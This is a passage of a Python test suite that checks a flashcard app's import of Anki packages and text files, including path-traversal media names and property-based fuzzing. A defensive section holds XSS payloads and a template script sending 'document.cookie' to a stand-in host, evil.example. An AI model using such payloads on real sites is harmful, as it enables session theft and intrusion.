        ("reviews.csv", b"card_id,review_rating,review_time,review_duration\n1,3,2024-01-01T10:00:00,\xff5000\n", 2),
    ],
)
def test_invalid_utf8_in_a_text_file_is_refused(home, name, content, line):
    path = home.incoming / name
    path.write_bytes(content)
    refused(home, path, "UTF-8", rf"line {line}\b")


# ======================================================================================
# Media names and duplicates
# ======================================================================================

UNSAFE_MEDIA_NAMES = [
    "../evil.jpg", "../../evil.jpg", "sub/evil.jpg", "sub\\evil.jpg", "C:\\evil.jpg", ".", "..", "", "evil\x00.jpg",
    "CON", "con.txt", "NUL", "Aux.jpg", "PRN", "COM1", "com9.mp3", "LPT1", "lpt9.png",
]


@pytest.mark.parametrize("layout", ["modern", "legacy"])
@pytest.mark.parametrize("name", [*UNSAFE_MEDIA_NAMES, "<absolute>"])
def test_an_unsafe_or_reserved_media_name_is_refused(home, anki_source, layout, name):
    if name == "<absolute>":  # a place inside this test's folder, so a write there would be seen
        name = str(home.root / "abs.jpg")
    package = anki_package(anki_source, layout)
    files = [(n, package.media_bytes(m)) for m, n in package.media]
    files[0] = (name, files[0][1])
    message = refused(home, package.set_media(files).save(home.incoming / "names.apkg"), "media")
    assert repr(name) in message, message


@pytest.mark.parametrize("layout", ["modern", "legacy"])
def test_duplicate_media_names_are_refused(home, anki_source, layout):
    """Two different files under one name: which one the notes mean cannot be known."""
    package = anki_package(anki_source, layout)
    files = [(n, package.media_bytes(m)) for m, n in package.media]
    files.append(("paris.jpg", b"\xff\xd8 another picture altogether"))
    message = refused(home, package.set_media(files).save(home.incoming / "twice.apkg"), "paris.jpg", "twice|duplicate|more than once|again")
    assert "media" in message.lower()


# ======================================================================================
# Active HTML arrives as inert text
# ======================================================================================

HOSTILE_FIELDS = (
    '<b>Paris</b><script>alert("field")</script>',
    '<img src="paris.jpg" onerror="alert(1)"><span onmouseover=alert(2)>Lyon</span>',
    '<a href="javascript:alert(3)">Nice</a> <a href=" JaVaScRiPt:alert(4)">Nantes</a> <a href="data:text/html,<script>alert(5)</script>">Brest</a>',
    '<img src="https://tracker.example/pixel.png"><img src="//tracker.example/p.png"><img src="http://x.example/a.gif" srcset="https://y.example/b.png 2x">',
    '<div style="background-image: url(https://tracker.example/bg.png)">Lille</div><iframe src="https://evil.example/"></iframe>',
    '<svg onload="alert(6)"><circle r="4"/></svg><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
    '<link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(7)">Go</button></form>Metz',
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video><audio src="https://evil.example/a.mp3"></audio>Caen',
)
HOSTILE_TEMPLATE = ('<script>document.location="https://evil.example/?"+document.cookie</script>{{Front}}', '{{FrontSide}}<hr id=answer><img src=x onerror="alert(8)">{{Back}}')
HOSTILE_CSS = '@import url("https://evil.example/a.css"); .card { background: url(https://evil.example/b.png); color: red; } @font-face { src: url(//evil.example/f.woff); }'
URL_ATTRIBUTES = {"src", "href", "srcset", "data", "action", "formaction", "poster", "background", "xlink:href", "ping", "cite", "longdesc", "content"}
ACTIVE_ELEMENTS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "link", "meta", "base", "form", "input", "button", "textarea", "select", "style"}


class _ActiveParts(HTMLParser):
    """What in a piece of HTML could run or fetch: active elements, handlers, non-local URLs."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            if value is None:
                continue
            plain = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in URL_ATTRIBUTES and (re.match(r"[a-z][a-z0-9+.-]*:", plain) and not plain.startswith("data:image/") or plain.startswith("//")):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "style" and re.search(r"url\(|image-set|expression|@import", plain):
                self.found.append(f"<{tag} style={value!r}>")

    handle_startendtag = handle_starttag


def active_parts(html_text: str) -> list[str]:
    parser = _ActiveParts()
    parser.feed(html_text)
    parser.close()
    return parser.found


def test_the_active_parts_finder_finds_what_the_fields_hold():
    """(The check below must be able to fail: it finds every kind of hostile part raw.)"""
    found = " ".join(active_parts("".join(HOSTILE_FIELDS) + HOSTILE_TEMPLATE[0] + HOSTILE_TEMPLATE[1]))
    for part in ("<script>", "onerror", "onmouseover", "javascript", "data:text/html", "https://tracker", "//tracker", "srcset", "style=",
                 "<iframe>", "<svg>", "onload", "<object>", "<embed>", "<link>", "<meta>", "<base>", "<form>", "formaction", "poster"):
        assert part in found, part


def assert_rendered_inert(home: Home, texts: tuple[str, ...]) -> None:
    collection = home.collection
    card_ids = collection.find_cards("deck:Hostile")
    assert card_ids
    for card in collection.store.cards(card_ids):
        rendered = collection.render(card)
        for side in (rendered.question, rendered.answer):
            assert active_parts(side) == [], side
            assert not re.search(r"javascript:|https?://|//[a-z]", side, re.IGNORECASE), side
        assert not re.search(r"url\(\s*['\"]?(?:https?:)?//|@import", rendered.css, re.IGNORECASE), rendered.css
    shown = " ".join(collection.render(c).answer for c in collection.store.cards(card_ids))
    for text in texts:  # what was text stays text
        assert text in shown, text


def test_active_html_in_a_package_is_imported_inert(home, tmp_path):
    col = AnkiCollection(str(tmp_path / "hostile.anki2"))
    try:
        models = col.models
        notetype = models.copy(models.by_name("Basic"), add=False)
        notetype["name"] = "Hostile Basic"
        notetype["tmpls"][0]["qfmt"], notetype["tmpls"][0]["afmt"] = HOSTILE_TEMPLATE
        notetype["css"] = HOSTILE_CSS
        models.add(notetype)
        deck = col.decks.id("Hostile")
        for index, back in enumerate(HOSTILE_FIELDS):
            note = col.new_note(models.by_name("Hostile Basic"))
            note["Front"], note["Back"] = f"question {index}", back
            col.add_note(note, deck)
        col.media.write_data("paris.jpg", PICTURE)
        options = ExportAnkiPackageOptions(with_scheduling=False, with_deck_configs=False, with_media=True, legacy=False)
        col.export_anki_package(out_path=str(home.incoming / "hostile.apkg"), options=options, limit=None)
    finally:
        col.close()
    assert any(active_parts(field) for field in HOSTILE_FIELDS)
    report, _ = import_file(home.collection, home.incoming / "hostile.apkg")
    assert (report.added, report.cards_added) == (len(HOSTILE_FIELDS), len(HOSTILE_FIELDS))
    assert_rendered_inert(home, ("Paris", "Lyon", "Nice", "Nantes", "Brest", "Lille", "Metz", "Caen"))


def test_active_html_in_a_csv_is_imported_inert(home):
    path = home.incoming / "hostile.csv"
    lines = ["#separator:comma", "#html:true", "#deck:Hostile"]
    lines += [f'"question {i}","{field.replace(chr(34), chr(34) * 2)}"' for i, field in enumerate(HOSTILE_FIELDS)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report, _ = import_file(home.collection, path)
    assert report.added == len(HOSTILE_FIELDS)
    assert_rendered_inert(home, ("Paris", "Lyon", "Nice", "Nantes", "Brest", "Lille", "Metz", "Caen"))


# ======================================================================================
# Ragged text files
# ======================================================================================


@pytest.mark.parametrize(
    ("name", "content", "line"),
    [
        ("ragged.csv", "hola,hello\nadios,goodbye,bye\ngracias,thanks\n", 2),
        ("short.csv", "hola,hello\ngracias,thanks\nadios\n", 3),
        ("ragged.tsv", "hola\thello\ngracias\tthanks\nadios\tgoodbye\textra\n", 3),
        ("headed.txt", "#separator:semicolon\n#html:false\n#columns:Front;Back\nhola;hello\nadios;goodbye;bye\n", 5),
        ("quoted.csv", 'hola,"hello, hi"\n"adios","goodbye","bye"\n', 2),
        ("reviews.csv", "card_id,review_rating,review_time,review_duration\n1,3,2024-01-01T10:00:00,5000\n1,3,2024-01-02T10:00:00\n", 3),
    ],
)
def test_a_text_file_with_ragged_rows_is_refused(home, name, content, line):
    path = home.incoming / name
    path.write_text(content, encoding="utf-8")
    refused(home, path, rf"line {line}\b", "column")


# ======================================================================================
# Media are written only once the rows are committed
# ======================================================================================


def test_a_failed_commit_leaves_no_media_behind(home, anki_source, monkeypatch):
    """The disk fails as the import's transaction commits (simulated: SQLite refuses the COMMIT):
    the media files the import brought must not stay in the media folder, named by no note."""
    connection = home.collection.store.db.conn
    before = home.state()
    media_before = sorted(p.name for p in home.collection.media_folder.iterdir())

    def no_commit(action, argument, *_):
        if action == sqlite3.SQLITE_TRANSACTION and argument == "COMMIT":
            return sqlite3.SQLITE_DENY
        return sqlite3.SQLITE_OK

    connection.set_authorizer(no_commit)
    try:
        with pytest.raises(Exception) as raised:  # noqa: PT011  (the kind is not the point here)
            import_file(home.collection, anki_source.modern)
    finally:
        connection.set_authorizer(None)
    if connection.in_transaction:  # (what a failed COMMIT may leave open)
        connection.execute("ROLLBACK")
    # the injected fault itself, or what heatcards makes of a disk fault
    assert isinstance(raised.value, (HeatcardsError, sqlite3.DatabaseError)), f"{type(raised.value).__name__}: {raised.value}"
    assert sorted(p.name for p in home.collection.media_folder.iterdir()) == media_before
    assert home.state() == before


# ======================================================================================
# Property tests: mutated real packages and text files
# ======================================================================================


@pytest.fixture(scope="module")
def synth_package(tmp_path_factory) -> Path:
    """A package synth.py builds (FSRS on, a month of history), exported by Anki."""
    script = SHARED / "peer" / "synth.py"
    if not script.exists():
        pytest.skip("../shared/peer/synth.py is not present (it exists only beside the developers' checkout)")
    spec = importlib.util.spec_from_file_location("synth", script)
    synth = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(synth)
    folder = tmp_path_factory.mktemp("synth")
    synth.build_collection(str(folder / "synth.anki2"), 40, days=30, seed=5, fsrs=True, log=lambda *_: None)
    col = AnkiCollection(str(folder / "synth.anki2"))
    try:
        options = ExportAnkiPackageOptions(with_scheduling=True, with_deck_configs=True, with_media=True, legacy=False)
        col.export_anki_package(out_path=str(folder / "synthetic.apkg"), options=options, limit=None)
    finally:
        col.close()
    return folder / "synthetic.apkg"


@dataclass
class Templates:
    """Populated collections to copy for each example: as made, and holding the package itself."""

    folder: Path
    made: dict[str, Path] = field(default_factory=dict)

    def profile(self, original: Path | None) -> Path:
        key = "plain" if original is None else original.name + str(original.stat().st_size)
        if key not in self.made:
            root = self.folder / f"template-{len(self.made)}"
            with home_in(root) as made:
                if original is not None:
                    import_file(made.collection, original)
            self.made[key] = root / "profile"
        return self.made[key]


@pytest.fixture(scope="module")
def templates(tmp_path_factory) -> Templates:
    return Templates(tmp_path_factory.mktemp("templates"))


STRUCTURAL_FINDINGS = set(FindingKind) - CONTENT_FINDINGS


def import_cleanly_or_refuse(folder: Path, template: Path, write: Callable[[Path], Path]) -> str:
    """In a fresh copy of `template`: write the file (into the incoming folder), import it, and
    require a clean import or a clean refusal. Returns "imported" or "refused"."""
    root = Path(tempfile.mkdtemp(dir=folder))
    scratch = root / "scratch"
    previous = tempfile.tempdir
    try:
        with home_in(root, template) as home:
            path = write(home.incoming)
            before, counts = home.state(), home.counts()
            tempfile.tempdir = str(scratch)
            try:
                report, _ = import_file(home.collection, path)
            except ImportFileError as error:
                assert path.name in str(error), str(error)
                assert home.state() == before, f"refused ({error}), but something changed"
                _tell("refused")
                return "refused"
            except Exception as error:  # noqa: BLE001
                raise AssertionError(f"{type(error).__name__} escaped the import: {error}\n{traceback.format_exc()}") from error
            finally:
                tempfile.tempdir = previous
            assert list(scratch.iterdir()) == [], "the reader left scratch files"
            after = home.counts()
            assert after["notes"] == counts["notes"] + report.added, report
            assert after["cards"] == counts["cards"] + report.cards_added, report
            assert after["revlog"] == counts["revlog"] + report.reviews_added, report
            assert after["media"] == counts["media"] + report.media_added, report
            findings = [f for f in home.collection.check().findings if f.kind in STRUCTURAL_FINDINGS]
            assert findings == [], findings
            collection = home.collection
            for card in collection.store.cards(collection.find_cards()):
                collection.render(card)
            for deck in collection.decks():
                collection.next_card(deck)
            _tell("imported")
            return "imported"
    finally:
        tempfile.tempdir = previous
        shutil.rmtree(root, ignore_errors=True)


def _tell(outcome: str) -> None:
    """Count the outcome in hypothesis' statistics (--hypothesis-show-statistics), when in a property test."""
    try:
        event(outcome)
    except InvalidArgument:  # called from a plain test
        pass


PROPERTY = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
PACKAGES = ["anki modern", "anki legacy", "synth"]


def _original(name: str, anki_source: AnkiSource, request) -> Path:
    if name == "synth":
        return request.getfixturevalue("synth_package")
    return anki_source.modern if name == "anki modern" else anki_source.legacy


def mutate(data: st.DataObject, content: bytes, label: str) -> bytes:
    """Flip, overwrite, cut, insert or delete bytes somewhere in `content`."""
    kind = data.draw(st.sampled_from(["flip", "overwrite", "truncate", "insert", "delete"]), label=f"{label} mutation")
    size = len(content)
    at = data.draw(st.integers(0, max(0, size - 1)), label=f"{label} position")
    if kind == "flip":
        bit = data.draw(st.integers(0, 7))
        return content[:at] + bytes([content[at] ^ (1 << bit)]) + content[at + 1 :] if size else content
    if kind == "overwrite":
        patch = data.draw(st.binary(min_size=1, max_size=32))
        return content[:at] + patch + content[at + len(patch) :]
    if kind == "truncate":
        return content[:at]
    if kind == "insert":
        return content[:at] + data.draw(st.binary(min_size=1, max_size=64)) + content[at:]
    length = data.draw(st.integers(1, 256))
    return content[:at] + content[at + length :]


@pytest.mark.parametrize("source", PACKAGES)
@PROPERTY
@given(data=st.data())
def test_mutated_package_files(tmp_path, anki_source, templates, request, source, data):
    """The package's bytes, as a disk or a download might damage them."""
    original = _original(source, anki_source, request)
    template = templates.profile(data.draw(st.sampled_from([None, original]), label="collection holds the package"))
    mutated = mutate(data, original.read_bytes(), "file")

    def write(folder: Path) -> Path:
        path = folder / "mutated.apkg"
        path.write_bytes(mutated)
        return path

    import_cleanly_or_refuse(tmp_path, template, write)


@pytest.mark.parametrize("source", PACKAGES)
@PROPERTY
@given(data=st.data())
def test_mutated_package_members(tmp_path, anki_source, templates, request, source, data):
    """One member damaged inside an intact zip: its stored bytes, or for the collection, the SQLite
    file after undoing the zstd (then compressed again)."""
    original = _original(source, anki_source, request)
    template = templates.profile(data.draw(st.sampled_from([None, original]), label="collection holds the package"))
    package = Package.read(original)
    member = data.draw(st.sampled_from(sorted(package.members) + ["<database>"] * 3), label="member")
    if member == "<database>":
        package.database = mutate(data, package.database, "database")
    else:
        package.members[member] = mutate(data, package.members[member], member)
    import_cleanly_or_refuse(tmp_path, template, lambda folder: package.save(folder / "mutated.apkg"))


TABLE_COLUMNS = {
    "col": ["crt", "ver", "conf", "models", "decks", "dconf"],
    "notes": ["id", "guid", "mid", "mod", "tags", "flds"],
    "cards": ["id", "nid", "did", "ord", "mod", "type", "queue", "due", "ivl", "factor", "reps", "lapses", "left", "odue", "odid", "flags", "data"],
    "revlog": ["id", "cid", "ease", "ivl", "lastIvl", "factor", "time", "type"],
    "notetypes": ["id", "name", "config"],
    "fields": ["ntid", "ord", "name"],
    "templates": ["ntid", "ord", "name", "config"],
    "decks": ["id", "name", "kind"],
    "deck_config": ["id", "name", "config"],
    "config": ["KEY", "val"],
}
SQL_VALUES = st.one_of(
    st.none(),
    st.integers(-(2**63), 2**63 - 1),
    st.sampled_from([0, 1, -1, 2, 3, 4, 5, 9, 1_000_000_000, 2**31, -(2**31), 2**53]),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=40),
    st.sampled_from(["", "{}", "[]", "null", '{"s": -1, "d": 99}', '{"s": 1e308, "d": 5, "lrt": -5}', "\x1f", "a\x1fb\x1fc", "::", "A::::B", " "]),
    st.binary(max_size=40),
)


@pytest.mark.parametrize("source", PACKAGES)
@PROPERTY
@given(data=st.data())
def test_mutated_collection_rows(tmp_path, anki_source, templates, request, source, data):
    """Values Anki would never write, in any column the reader reads: one row, or every row."""
    original = _original(source, anki_source, request)
    template = templates.profile(data.draw(st.sampled_from([None, original]), label="collection holds the package"))
    package = Package.read(original)
    tables = [t for t in TABLE_COLUMNS if query_database(package.database, "SELECT 1 FROM sqlite_master WHERE name = ?", (t,))]
    table = data.draw(st.sampled_from(tables), label="table")
    column = data.draw(st.sampled_from(TABLE_COLUMNS[table]), label="column")
    value = data.draw(SQL_VALUES, label="value")
    every_row = data.draw(st.booleans(), label="every row")
    where = "" if every_row else f" WHERE rowid = (SELECT min(rowid) FROM {table})" if table not in ("fields", "templates", "config") else ""
    if table in ("fields", "templates") and not every_row:
        where = " WHERE ord = 0 AND ntid = (SELECT min(ntid) FROM " + table + ")"
    if table == "config" and not every_row:
        where = " WHERE KEY = (SELECT min(KEY) FROM config)"
    data_bytes = bytearray(package.database)
    data_bytes[18:20] = b"\x01\x01"
    connection = sqlite3.connect(":memory:")
    connection.create_collation("unicase", _unicase)
    connection.deserialize(bytes(data_bytes))
    try:
        connection.execute(f'UPDATE OR IGNORE {table} SET "{column}" = ?{where}', (value,))
    except (sqlite3.IntegrityError, OverflowError):
        assume(False)
    except sqlite3.OperationalError:  # e.g. a value a WITHOUT ROWID key refuses
        assume(False)
    connection.commit()  # (a deserialized database serializes what is committed)
    out = bytearray(connection.serialize())
    connection.close()
    out[18:20] = package.database[18:20]
    package.database = bytes(out)
    import_cleanly_or_refuse(tmp_path, template, lambda folder: package.save(folder / "mutated.apkg"))


MEDIA_NAMES = st.one_of(
    st.text(max_size=20),
    st.sampled_from(["paris.jpg", "chat.mp3", "PARIS.JPG", "../x", "a/b", "CON", ".", "", " ", "x\x00", "é.png", unicodedata.normalize("NFD", "é.png"), "x" * 300]),
)


@pytest.mark.parametrize("source", ["anki modern", "anki legacy"])
@PROPERTY
@given(data=st.data())
def test_mutated_media_lists(tmp_path, anki_source, templates, request, source, data):
    """The media list: names changed, entries added, dropped or pointing at missing members, or
    its bytes damaged."""
    original = _original(source, anki_source, request)
    template = templates.profile(data.draw(st.sampled_from([None, original]), label="collection holds the package"))
    package = Package.read(original)
    how = data.draw(st.sampled_from(["names", "bytes"]), label="how")
    if how == "bytes":
        raw = package.members["media"]
        package.members["media"] = _zstd(mutate(data, _unzstd(raw), "media list")) if package.modern else mutate(data, raw, "media list")
    else:
        files = [(n, package.media_bytes(m)) for m, n in package.media]
        files = data.draw(
            st.lists(st.tuples(st.one_of(MEDIA_NAMES, st.sampled_from([n for n, _ in files])), st.sampled_from([b for _, b in files] + [b"", b"new"])), max_size=5),
            label="media",
        )
        package.set_media(files)
        if data.draw(st.booleans(), label="drop a member") and files:
            package.members.pop(str(data.draw(st.integers(0, len(files) - 1))), None)
    import_cleanly_or_refuse(tmp_path, template, lambda folder: package.save(folder / "mutated.apkg"))


@pytest.fixture(scope="module")
def text_files(anki_source, tmp_path_factory) -> dict[str, bytes]:
    """Real text files: Anki's notes export, and heatcards' CSV and TSV exports of a collection."""
    folder = tmp_path_factory.mktemp("text")
    with open_collection(folder / "col.heatcards") as collection:
        populate(collection)
        collection.add_note("Basic", ['with "quotes", commas,\nand a line break', "<b>bold</b> &amp; more"], "Mine::Words")
        import_file(collection, anki_source.modern)
        export_file(collection, folder / "notes.csv")
        export_file(collection, folder / "notes.tsv")
    return {
        "anki-notes.txt": anki_source.notes_text.read_bytes(),
        "notes.csv": (folder / "notes.csv").read_bytes(),
        "notes.tsv": (folder / "notes.tsv").read_bytes(),
    }


TEXT_PIECES = st.sampled_from(['"', '""', ",", "\t", ";", "\n", "\r\n", "\r", "#", "#separator:pipe\n", "#html:maybe\n", "#columns:a,b\n",
                               "#notetype column:9\n", "#deck column:1\n", "#guid column:2\n", "#tags column:3\n", "\x1f", "\x00", "\ufeff", "::"])


@pytest.mark.parametrize("name", ["anki-notes.txt", "notes.csv", "notes.tsv"])
@PROPERTY
@given(data=st.data())
def test_mutated_text_files(tmp_path, templates, text_files, name, data):
    """Text files with bytes or characters changed: quotes, separators, line breaks, headers."""
    import_mutated_text(tmp_path, templates, name, text_files[name], TEXT_PIECES, data)


def import_mutated_text(tmp_path, templates, name: str, content: bytes, pieces, data: st.DataObject) -> None:
    """Change a text file's characters (one of `pieces` or any text) or its bytes, then import it."""
    if data.draw(st.booleans(), label="as text"):
        text = content.decode("utf-8")
        at = data.draw(st.integers(0, len(text)), label="position")
        cut = data.draw(st.integers(0, 20), label="replaced")
        piece = data.draw(st.one_of(pieces, st.text(max_size=10)), label="piece")
        content = (text[:at] + piece + text[at + cut :]).encode("utf-8")
    else:
        content = mutate(data, content, "bytes")

    def write(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content)
        return path

    import_cleanly_or_refuse(tmp_path, templates.profile(None), write)


@pytest.fixture(scope="module")
def deck_files(anki_source, tmp_path_factory) -> dict[str, bytes]:
    """Real heatcards deck files: the bundled Heat deck (version 1), and a version 2 export of a
    studied collection (note types, presets, cards with their scheduling and review history)."""
    folder = tmp_path_factory.mktemp("deck-files")
    with open_collection(folder / "col.heatcards") as collection:
        populate(collection)
        import_file(collection, anki_source.modern)
        export_file(collection, folder / "studied.heatdeck.toml")
    return {"heat.heatdeck.toml": HEAT_DECK_FILE.read_bytes(), "studied.heatdeck.toml": (folder / "studied.heatdeck.toml").read_bytes()}


DECK_FILE_PIECES = st.sampled_from(['"', '"""', "=", "[", "]]", "[[notes]]\n", "version = 9\n", "\n", "{", "}", ",", "#", "\\", "\x00", "::"])


@pytest.mark.parametrize("name", ["heat.heatdeck.toml", "studied.heatdeck.toml"])
@PROPERTY
@given(data=st.data())
def test_mutated_deck_files(tmp_path, templates, deck_files, name, data):
    """heatcards deck files with bytes or characters changed: TOML syntax, keys, values, versions."""
    import_mutated_text(tmp_path, templates, name, deck_files[name], DECK_FILE_PIECES, data)


# What the property tests found, kept as plain tests so that they fail every time until fixed.
@pytest.mark.parametrize(
    ("source", "sql"),
    [
        ("anki modern", "UPDATE fields SET name = X'' WHERE ord = 0 AND ntid = (SELECT min(ntid) FROM fields)"),  # a blob for a name
        ("anki modern", "UPDATE notes SET mod = 9.223372036854776e18 WHERE id = (SELECT min(id) FROM notes)"),  # past SQLite's integers
        ("anki legacy", "UPDATE cards SET due = -20779 WHERE type = 2"),  # review cards due before 1970
        ("anki modern", "UPDATE revlog SET time = 'slow' WHERE id = (SELECT min(id) FROM revlog)"),  # text for a number
    ],
    ids=["blob name", "huge real", "due before 1970", "text duration"],
)
def test_collection_values_found_by_the_property_tests(tmp_path, anki_source, templates, source, sql):
    package = Package.read(anki_source.modern if source == "anki modern" else anki_source.legacy).edit(sql)
    import_cleanly_or_refuse(tmp_path, templates.profile(None), lambda folder: package.save(folder / "found.apkg"))


def test_a_long_media_name_found_by_the_property_tests(tmp_path, anki_source, templates):
    """A media name longer than a file name can be (300 bytes): renamed, or refused, but no OSError."""
    package = anki_package(anki_source, "modern")
    files = [(n, package.media_bytes(m)) for m, n in package.media]
    files[0] = ("x" * 300 + ".jpg", files[0][1])
    package.set_media(files)
    import_cleanly_or_refuse(tmp_path, templates.profile(None), lambda folder: package.save(folder / "long.apkg"))


@pytest.mark.parametrize("name", ["nul.csv", "nul.txt"])
def test_a_nul_character_in_a_text_file_found_by_the_property_tests(tmp_path, templates, name):
    """U+0000 inside a cell: refused, or imported so that `check` finds nothing wrong."""
    separator = "," if name.endswith(".csv") else "\t"

    def write(folder: Path) -> Path:
        path = folder / name
        path.write_text(f"\x00hola{separator}hello\nadios{separator}good\x00bye\n", encoding="utf-8")
        return path

    import_cleanly_or_refuse(tmp_path, templates.profile(None), write)
